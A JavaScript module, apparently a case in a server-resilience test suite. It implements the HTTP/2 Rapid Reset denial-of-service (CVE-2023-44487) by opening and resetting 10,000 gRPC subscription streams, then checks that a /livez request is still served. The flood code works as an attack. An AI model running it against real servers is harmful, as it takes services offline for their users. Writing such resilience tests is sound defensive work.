// Subscriptions that are left as soon as they have begun: how clients unsubscribe, so that it is served, however often.

import { COMPLETE, Flag, Type, toFrame, toStreamId, toUint32, toWindowUpdate } from "../wire/frames.mjs";
import { SUBSCRIBE, toSubscription } from "../wire/grpc.mjs";
import { toGrpcRequest, toRequest } from "../wire/hpack.mjs";

const headers = toGrpcRequest(SUBSCRIBE);
const body = toSubscription("subscribe-and-leave");

/** @type {import("../target.mjs").Attack} */
export const attack = {
  reference: "CVE-2023-44487",
  does: "subscribes and leaves, ten thousand times",
  limit: "",
  meets: "served",
  counter: "",
  memoryMb: 64,
  async run(target) {
    const peer = await target.connectHttp2();
    // Room for ten thousand heartbeats.
    await peer.send(toWindowUpdate(0, 1_000_000));
    await peer.flood(
      (n) =>
        Buffer.concat([
          toFrame(Type.HEADERS, Flag.END_HEADERS, toStreamId(n), headers),
          toFrame(Type.DATA, Flag.END_STREAM, toStreamId(n), body),
          toFrame(Type.RST_STREAM, 0, toStreamId(n), toUint32(8)),
        ]),
      10_000,
    );
    await peer.send(toFrame(Type.HEADERS, COMPLETE, toStreamId(10_000), toRequest("/livez")));
    const ending = await target.patiently(peer.endOf(toStreamId(10_000)));
    return [ending === "status 200" ? "served" : ending];
  },
};
